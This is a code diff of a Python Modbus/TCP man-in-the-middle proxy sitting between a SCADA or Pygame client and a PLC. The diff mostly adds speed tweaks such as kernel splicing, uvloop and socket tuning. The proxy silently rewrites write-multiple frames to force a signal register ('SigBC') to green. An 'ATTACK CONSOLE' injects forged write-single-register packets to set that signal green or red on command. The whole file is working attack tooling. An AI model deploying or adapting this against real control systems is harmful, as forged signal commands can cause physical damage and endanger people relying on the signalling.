@@ -1,8 +1,15 @@
 #!/usr/bin/env python3
 import asyncio
+import itertools
+import os
+import socket
 import struct
 import sys
-from scapy.all import Raw
+
+try:
+    import uvloop  # optional: libuv-backed event loop for the proxy
+except ImportError:
+    uvloop = None
 
 # --- CONFIGURATION ---
 LISTEN_HOST = "0.0.0.0"
@@ -11,104 +18,246 @@ PLC_HOST = "127.0.0.1"
 PLC_PORT = 5020
 UNIT_ID = 1
 SIG_BC_HR_ADDR = 1 
+READ_CHUNK = 65536  # drain every queued frame per read so one send() carries them all
+
+# PLC -> client traffic is never modified, so on Linux it is spliced
+# socket -> pipe -> socket without ever being copied into Python.
+SPLICE_CHUNK = 65536
+HAVE_SPLICE = hasattr(os, "splice")
+
+# Precompiled wire formats
+MBAP_HEADER = struct.Struct(">HHHB")    # TID, PID, Length, UnitID
+FC6_FRAME = struct.Struct(">HHHBBHH")   # MBAP + FC6 PDU (FC, Addr, Value)
+U16 = struct.Struct(">H")
 
-# Global state to track the last seen Transaction ID to stay in sync with the PLC
-latest_transaction_id = 0
+# Manual Write Single Register (FC6) packets, one per signal state.
+# MBAP (7 bytes) + PDU (5 bytes); Length is 6 bytes (UnitID + PDU).
+# Only the TID is patched in before each send.
+MANUAL_PACKET_GREEN = bytearray(FC6_FRAME.pack(0, 0, 6, UNIT_ID, 6, SIG_BC_HR_ADDR, 1))
+MANUAL_PACKET_RED = bytearray(FC6_FRAME.pack(0, 0, 6, UNIT_ID, 6, SIG_BC_HR_ADDR, 0))
+manual_tids = itertools.count(1)  # shared by every console, wrapped to 16 bits
+consoles = []  # line queues of the open consoles, newest last
 
 def process_modbus_payload(data):
     """Parses and modifies background traffic (Automatic Hijacking)."""
-    global latest_transaction_id
     view = memoryview(data)
     offset = 0
-    output = bytearray()
+    buf = None
 
-    while offset <= len(view) - 7:
-        tid, pid, length, unit = struct.unpack_from(">HHHB", view, offset)
-        latest_transaction_id = tid # Keep track of the current sequence
+    end = len(view)
+    while offset + 8 <= end:
+        tid, pid, length, unit = MBAP_HEADER.unpack_from(view, offset)
         total_frame_len = 6 + length
-        frame = bytearray(view[offset : offset + total_frame_len])
-        pdu = frame[7:]
-        
+
+        # Most frames are reads: a single byte compare skips them
+        if view[offset + 7] != 16 or offset + 12 > end: # Write Multiple
+            offset += total_frame_len
+            continue
+
         # Modification: If background traffic tries to write SigBC, force it to 1
-        func_code = pdu[0]
-        if func_code == 16: # Write Multiple
-            start_addr, qty = struct.unpack_from(">HH", pdu, 1)
-            if start_addr <= SIG_BC_HR_ADDR < (start_addr + qty):
-                val_offset = 6 + (SIG_BC_HR_ADDR - start_addr) * 2
-                pdu[val_offset] = 0x00
-                pdu[val_offset+1] = 0x01
-                frame[7:] = pdu
-
-        output.extend(frame)
+        start_addr = (view[offset + 8] << 8) | view[offset + 9]
+        if start_addr <= SIG_BC_HR_ADDR:
+            qty = (view[offset + 10] << 8) | view[offset + 11]
+            if SIG_BC_HR_ADDR < (start_addr + qty):
+                # A frame split across reads may end before the SigBC value:
+                # it is forwarded as-is rather than patched past the buffer.
+                val_offset = offset + 7 + 6 + (SIG_BC_HR_ADDR - start_addr) * 2
+                if val_offset + 2 <= end:
+                    # Only copy the buffer once a frame actually needs patching
+                    if buf is None:
+                        buf = bytearray(data)
+                    U16.pack_into(buf, val_offset, 1)
+
         offset += total_frame_len
-    return bytes(output)
+
+    # Fast path: nothing to patch, forward the original bytes untouched.
+    # Otherwise hand the patched copy straight to the writer (bytes-like).
+    if buf is None:
+        return data
+    return buf
 
 async def manual_console_trigger(writer):
     """Console loop to send manual overrides on key press."""
-    global latest_transaction_id
     print("\n--- ATTACK CONSOLE ---")
     print("Commands: [g] Force SigBC Green, [r] Force SigBC Red, [q] Quit")
-    
-    loop = asyncio.get_event_loop()
+
+    # stdin is read once for the whole gateway (see watch_stdin); lines are
+    # routed to the most recently connected console.
+    lines = asyncio.Queue()
+    consoles.append(lines)
+
+    try:
+        while True:
+            line = await lines.get()
+            cmd = line.decode(errors="ignore").strip().lower()
+
+            if not cmd: continue
+
+            val = None
+            if cmd == 'g': val = 1
+            elif cmd == 'r': val = 0
+            elif cmd == 'q': break
+
+            if val is not None:
+                tid = next(manual_tids) & 0xFFFF
+                manual_packet = MANUAL_PACKET_GREEN if val == 1 else MANUAL_PACKET_RED
+                U16.pack_into(manual_packet, 0, tid)
+
+                writer.write(bytes(manual_packet))
+                await writer.drain()
+                state = "GREEN" if val == 1 else "RED"
+                print(f"[!] MANUAL OVERRIDE: Sent SigBC -> {state} (TID: {tid})")
+    finally:
+        consoles.remove(lines)
+
+def route_line(line):
+    if consoles:
+        consoles[-1].put_nowait(line)
+
+async def watch_stdin():
+    """Read stdin for every console without blocking the proxy tasks."""
+    loop = asyncio.get_running_loop()
+    stdin_fd = sys.stdin.fileno()
+
+    partial = b""  # bytes read after the last newline
+
+    def on_stdin():
+        nonlocal partial
+        data = os.read(stdin_fd, 128)
+        if not data:
+            loop.remove_reader(stdin_fd)
+            data = b"\n"  # EOF ends the last unterminated line
+        *lines, partial = (partial + data).split(b"\n")
+        for line in lines:
+            route_line(line)
+
+    # Registered once: a second add_reader on the same fd would replace the
+    # first, and any console removing it would cut stdin off for the rest.
+    try:
+        loop.add_reader(stdin_fd, on_stdin)
+        return
+    except (NotImplementedError, OSError):
+        # stdin is not pollable (redirected from a file, or a Proactor loop)
+        pass
     while True:
-        # Get input without blocking the proxy tasks
-        cmd = await loop.run_in_executor(None, sys.stdin.readline)
-        cmd = cmd.strip().lower()
+        line = await loop.run_in_executor(None, sys.stdin.buffer.readline)
+        if not line: return
+        route_line(line)
 
-        if not cmd: continue
-        
-        val = None
-        if cmd == 'g': val = 1
-        elif cmd == 'r': val = 0
-        elif cmd == 'q': break
-
-        if val is not None:
-            # Construct a Manual Write Single Register (FC6) packet
-            # Use a high TID offset to avoid collision with game traffic
-            tid = (latest_transaction_id + 1) % 65535
-            # MBAP (7 bytes) + PDU (5 bytes)
-            # Length is 6 bytes (UnitID + PDU)
-            manual_packet = struct.pack(">HHHBBHH", tid, 0, 6, UNIT_ID, 6, SIG_BC_HR_ADDR, val)
-            
-            writer.write(manual_packet)
-            await writer.drain()
-            state = "GREEN" if val == 1 else "RED"
-            print(f"[!] MANUAL OVERRIDE: Sent SigBC -> {state} (TID: {tid})")
+async def close_writer(writer):
+    """Close a stream and wait until its socket is actually released."""
+    writer.close()
+    try:
+        await writer.wait_closed()
+    except ConnectionError:
+        pass
 
 async def pipe(reader, writer, should_modify):
     try:
         while True:
-            data = await reader.read(4096)
+            data = await reader.read(READ_CHUNK)
             if not data: break
             if should_modify:
                 data = process_modbus_payload(data)
             writer.write(data)
             await writer.drain()
-    except Exception: pass
-    finally: writer.close()
+    except ConnectionError: pass  # peer reset/closed; cancellation propagates
+    finally:
+        await close_writer(writer)
+
+async def wait_fd(add, remove, fd):
+    """Wait until fd is readable/writable using the loop's add_reader/add_writer."""
+    fut = asyncio.get_running_loop().create_future()
+    add(fd, lambda: fut.done() or fut.set_result(None))
+    try:
+        await fut
+    finally:
+        remove(fd)
+
+async def splice_pipe(src_writer, dst_writer):
+    """Forward src -> dst in-kernel with os.splice (unmodified direction only)."""
+    loop = asyncio.get_running_loop()
+    # Take the source socket away from the asyncio transport; the dup'd fds
+    # let us register with the selector without clashing with the transports.
+    src_writer.transport.pause_reading()
+    src_sock = socket.socket(fileno=os.dup(src_writer.get_extra_info("socket").fileno()))
+    src_fd = src_sock.fileno()
+    dst_fd = os.dup(dst_writer.get_extra_info("socket").fileno())
+    pipe_r, pipe_w = os.pipe()
+    flags = os.SPLICE_F_MOVE | os.SPLICE_F_NONBLOCK
+
+    # The dup keeps the socket open after the other leg closes src_writer:
+    # shut it down then, so the PLC gets its FIN and the splice below sees EOF.
+    def on_src_closed(_):
+        try:
+            src_sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+    src_closed = asyncio.ensure_future(src_writer.wait_closed())
+    src_closed.add_done_callback(on_src_closed)
+    try:
+        while True:
+            try:
+                n = os.splice(src_fd, pipe_w, SPLICE_CHUNK, flags=flags)
+            except BlockingIOError:
+                await wait_fd(loop.add_reader, loop.remove_reader, src_fd)
+                continue
+            if not n: break
+            while n:
+                try:
+                    n -= os.splice(pipe_r, dst_fd, n, flags=flags)
+                except BlockingIOError:
+                    await wait_fd(loop.add_writer, loop.remove_writer, dst_fd)
+    except ConnectionError: pass
+    finally:
+        src_closed.remove_done_callback(on_src_closed)
+        src_closed.cancel()
+        await asyncio.gather(src_closed, return_exceptions=True)  # close errors are moot now
+        src_sock.close()
+        for fd in (dst_fd, pipe_r, pipe_w):
+            os.close(fd)
+        await close_writer(dst_writer)
+
+def tune_socket(writer):
+    """Disable Nagle (12-byte Modbus frames must not wait ~40 ms) and enable keepalive."""
+    sock = writer.get_extra_info("socket")
+    if sock is None: return
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
 
 async def handle_client(c_reader, c_writer):
     try:
         s_reader, s_writer = await asyncio.open_connection(PLC_HOST, PLC_PORT)
+        tune_socket(c_writer)
+        tune_socket(s_writer)
         
         # Launch the proxy pipes AND the manual console trigger
         # We pass s_writer to the console so it can inject packets directly to the PLC
-        await asyncio.gather(
-            pipe(c_reader, s_writer, True),
-            pipe(s_reader, c_writer, False),
-            manual_console_trigger(s_writer)
-        )
+        console = asyncio.ensure_future(manual_console_trigger(s_writer))
+        try:
+            await asyncio.gather(
+                pipe(c_reader, s_writer, True),
+                splice_pipe(s_writer, c_writer) if HAVE_SPLICE else pipe(s_reader, c_writer, False),
+            )
+        finally:
+            # Closed connection: stop its console so stdin goes to the next newest
+            console.cancel()
+            await asyncio.gather(console, return_exceptions=True)
     except Exception as e:
         print(f"Connection error: {e}")
 
 async def main():
     server = await asyncio.start_server(handle_client, LISTEN_HOST, LISTEN_PORT)
+    stdin_task = asyncio.create_task(watch_stdin())  # keep a reference while serving
     print(f"Gateway Running. Connect Pygame/SCADA to Port {LISTEN_PORT}")
     async with server:
         await server.serve_forever()
 
 if __name__ == "__main__":
     try:
-        asyncio.run(main())
+        if uvloop is not None:
+            uvloop.run(main())
+        else:
+            asyncio.run(main())
     except KeyboardInterrupt:
         pass